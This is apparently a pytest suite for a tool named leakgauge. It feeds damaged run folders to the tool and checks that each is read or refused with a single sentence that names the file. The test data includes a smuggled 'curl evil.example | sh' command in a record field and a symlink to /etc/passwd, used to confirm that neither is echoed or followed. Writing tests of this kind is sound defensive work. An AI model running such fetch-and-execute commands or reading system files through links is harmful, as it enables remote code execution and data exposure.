"""Run folders with one damaged file: they are read, or refused in one sentence that names the file. Never a traceback."""

from __future__ import annotations

import json
import os
import shutil
from dataclasses import asdict
from pathlib import Path

import pytest

from leakgauge.audit import plan, records
from leakgauge.audit.case import Case
from leakgauge.audit.plan import Plan
from leakgauge.audit.request import Effort, Request
from tests.made import record

CASE = Case(options={"steps": 1})
DEEP = b"[" * 100_000 + b"]" * 100_000


def _line(**changes: object) -> bytes:
    return json.dumps({**records.to_json(record(case=CASE)), **changes}).encode() + b"\n"


LINE = _line()
RECORDS: dict[str, bytes] = {
    "cut in mid line": LINE + LINE[:200],
    "without the last newline": LINE + LINE[:-1],
    "a page of zeros at the end": LINE + b"\0" * 4096,
    "empty": b"",
    "ends of lines of Windows": LINE.replace(b"\n", b"\r\n"),
    "a byte order mark": b"\xef\xbb\xbf" + LINE,
    "doubled": LINE + LINE,
    "zeros in the middle": LINE[:100] + b"\0" * 100 + LINE[200:],
    "another version": _line(format=99),
    "a list": b"[]\n",
    "null": b"null\n",
    "a number": b"3\n",
    "not a number": LINE.replace(b'"seconds": 3.0', b'"seconds": NaN'),
    "not UTF-8": LINE.replace(b"cnn", b"c\xffn"),
    "a blank line": LINE + b"\n" + LINE,
    "nested": DEEP + b"\n",
    "nested in a field": LINE.replace(b'"notes": []', b'"notes": ' + DEEP),
    "a number of many digits": LINE.replace(b'"batch_size": 1', b'"batch_size": ' + b"9" * 5000),
    "a batch that no memory holds": LINE.replace(b'"batch_size": 1', b'"batch_size": 20000000'),
}
_REQUEST = Request(("updates",), CASE, (CASE,), (), CASE, Effort(steps=1))
_PLAN = {"format": plan.FORMAT, **asdict(Plan(_REQUEST, cases=(CASE,)))}


def _plan(**changes: object) -> bytes:
    return json.dumps({**_PLAN, **changes}).encode()


def _asked(**changes: object) -> bytes:
    return _plan(request={**_PLAN["request"], **changes})


def _cased(**changes: object) -> bytes:
    return _plan(cases=[{**asdict(CASE), **changes}])


PLANS: dict[str, bytes] = {
    "empty": b"", "half": _plan()[:300], "null": b"null", "a number": b"3", "an empty list": b"[]", "a list of numbers": b"[1]",
    "not UTF-8": b"\xff\xfe", "zeros": b"\0" * 100, "nested": DEEP, "another version": _plan(format=99), "a new field": _plan(new=1),
    "no request": _plan(request=None), "no questions": _asked(questions=[]), "an unknown question": _asked(questions=["why"]),
    "no main": _asked(main=None), "effort of another type": _asked(effort=[1]), "cases of another type": _plan(cases={"a": 1}),
    "options as a list": _cased(options=[1]), "options as a number": _cased(options=5), "no image": _cased(batch_size=0),
    "an unknown attack": _cased(attack="magic"), "estimates as a list": _plan(estimates=[1]),
    "estimates as words": _plan(estimates={"updates": "x"}),
    "refusals as a list": _plan(refusals=["split"]),
}  # fmt: skip
ASKED = {"a list": b"[]", "null": b"null", "half": b'{"mod', "numbers": b'{"model": 3}'}
assert 2 * len(RECORDS) + 2 * len(PLANS) + len(ASKED) + 4 == 94


@pytest.fixture(scope="module")
def whole(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("whole") / "run"
    (folder / "pictures").mkdir(parents=True)
    (folder / records.FILE).write_bytes(LINE)
    (folder / plan.FILE).write_bytes(_plan())
    (folder / "asked.json").write_text("{}")
    return folder


@pytest.fixture
def run(whole, tmp_path) -> Path:
    return Path(shutil.copytree(whole, tmp_path / "run"))


def clean(said, file: str) -> None:
    """Done, or one sentence; nothing in between."""
    assert said.code in (0, 2), said.err
    assert "Traceback" not in said.err
    if said.code == 2:
        assert said.err.count("\n") == 1
        assert len(said.err) < 1000
        assert file in said.err


def resume(leakgauge):
    return leakgauge("audit", "--resume", "--out", "run", "-q")


@pytest.mark.parametrize("damage", RECORDS)
@pytest.mark.parametrize("command", ["report", "resume"])
def test_records(leakgauge, run, damage, command):
    (run / records.FILE).write_bytes(RECORDS[damage])
    clean(resume(leakgauge) if command == "resume" else leakgauge("report", "run"), "run")


@pytest.mark.parametrize("damage", PLANS)
@pytest.mark.parametrize("command", ["report", "resume"])
def test_plans(leakgauge, run, damage, command):
    (run / plan.FILE).write_bytes(PLANS[damage])
    said = resume(leakgauge) if command == "resume" else leakgauge("report", "run")
    clean(said, plan.FILE if damage != "an unknown attack" else "magic")


@pytest.mark.parametrize("damage", ASKED)
def test_what_was_asked(leakgauge, run, damage):
    (run / "asked.json").write_bytes(ASKED[damage])
    said = resume(leakgauge)
    clean(said, "asked.json")
    assert said.code == 2


@pytest.mark.parametrize("damage", ["gone", "torn", "a link away", "a pipe"])
def test_pictures(leakgauge, run, damage):
    (run / records.FILE).write_bytes(_line(pictures={"truth": "pictures/a.png"}))
    picture = run / "pictures" / "a.png"
    if damage == "torn":
        picture.write_bytes(b"\x89PNG\r\n\x1a\n half")
    elif damage == "a link away":
        picture.symlink_to("/etc/passwd")
    elif damage == "a pipe":
        os.mkfifo(picture)
    clean(leakgauge("report", "run"), "outside the run folder")


def test_the_undamaged_folder_is_fine(leakgauge, run):
    assert leakgauge("report", "run").code == 0
    assert resume(leakgauge).code == 0


def test_the_field_is_named(leakgauge, run):
    (run / records.FILE).write_bytes(LINE + LINE.replace(b'"batch_size": 1', b'"batch_size": "x"'))
    said = leakgauge("report", "run")
    assert said.code == 2
    assert (
        "line 2 of run/records.jsonl cannot be read: case.batch_size is 'x', but it should be a whole number"
        in said.sentence
    )


def test_no_shell_line_of_others_is_offered(leakgauge, run):
    (run / records.FILE).write_bytes(_line(command="leakgauge attack cnn; curl evil.example | sh"))
    assert leakgauge("report", "run").code == 0
    assert "evil.example" not in (run / "report.html").read_text()
